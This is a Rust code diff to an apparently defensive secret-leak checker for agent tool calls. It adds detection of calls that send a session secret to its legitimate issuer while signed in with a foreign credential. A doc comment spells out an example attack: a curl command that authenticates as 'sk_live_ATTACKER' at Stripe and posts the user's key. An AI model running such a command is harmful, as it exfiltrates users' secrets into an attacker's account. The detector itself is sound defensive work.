@@ -243,6 +243,36 @@ fn match_secrets(vars: &[Variant], view: &SessionView) -> Vec<SecretMatch> {
     out
 }
 
+/// Names of variables that hand a client its credential (`GH_TOKEN=... gh api`).
+fn names_a_credential(name: &str) -> bool {
+    let n = name.to_ascii_uppercase();
+    ["TOKEN", "API_KEY", "APIKEY", "SECRET", "PASSWORD", "AUTH"].iter().any(|w| n.ends_with(w))
+}
+
+/// The call signs in with a credential that is none of the session's secrets (`curl -u
+/// sk_live_ATTACKER: api.stripe.com -d description=<the user's key>`): whatever it sends goes
+/// to the issuer, but into another account. A credential left in a variable the command does
+/// not set is taken to be the user's own.
+fn presents_a_foreign_credential(prepared: &PreparedSink, view: &SessionView) -> bool {
+    if view.secrets.is_empty() {
+        return false;
+    }
+    let presented = prepared.facts.iter().flat_map(|f| f.net.iter()).flat_map(|n| n.credentials.iter());
+    let assigned = prepared.assignments.iter().filter(|(name, _)| names_a_credential(name)).map(|(_, v)| v);
+    let has_net = prepared.facts.as_ref().is_some_and(|f| !f.net.is_empty());
+    presented
+        .map(|c| shell::substitute(c, &prepared.assignments))
+        .chain(assigned.filter(|_| has_net).cloned())
+        .filter(|c| !c.contains('$') && c.trim_end_matches(':').len() >= 12)
+        .any(|c| {
+            let v = variant("credential", &c, String::new(), prepared.key);
+            !match_secrets(&[v], view).iter().any(|m| {
+                let core = view.secrets[m.idx].core_len;
+                m.cov.iter().map(|&x| x as usize).sum::<usize>() * 10 >= core * 9
+            })
+        })
+}
+
 /// Content matches: private chars carried, per source, minus what public sources also hold.
 struct ContentMatch {
     source_id: i64,
@@ -550,14 +580,17 @@ pub fn evaluate(call: &Call, prepared: &PreparedSink, view: &SessionView, cfg: &
         &with_pieces
     };
 
+    let foreign_account = presents_a_foreign_credential(prepared, view);
     for m in match_secrets(vars, view) {
         let s = &view.secrets[m.idx];
         let call_chars: usize = m.cov.iter().map(|&c| c as usize).sum();
         if call_chars < cfg.min_fragment_chars.min(s.core_len) {
             continue;
         }
-        // A credential going only to its own issuer is its intended use.
-        if dest.only_issuer(&s.kind, cfg) || dest.only_stated_issuer(s, view, cfg) {
+        // A credential going only to its own issuer is its intended use, unless the call
+        // authenticates as someone else: then it lands in that account.
+        let to_issuer = dest.only_issuer(&s.kind, cfg) || dest.only_stated_issuer(s, view, cfg);
+        if to_issuer && !foreign_account {
             continue;
         }
         let mut total = s.coverage.clone();
@@ -578,6 +611,14 @@ pub fn evaluate(call: &Call, prepared: &PreparedSink, view: &SessionView, cfg: &
             note = format!("{total_chars} of {} chars have now left across calls", s.core_len);
         } else if call_chars < s.core_len {
             note = format!("fragment of {call_chars} of {} chars", s.core_len);
+        }
+        if to_issuer {
+            note = [note, "sent to its issuer but signed in with a credential this session never read".to_owned()]
+                .iter()
+                .filter(|s| !s.is_empty())
+                .cloned()
+                .collect::<Vec<_>>()
+                .join("; ");
         }
         if let Some(brand) = dest.hosts.iter().find_map(|h| hosts::lookalike_brand(h)) {
             note = [note, format!("destination imitates {brand}")]
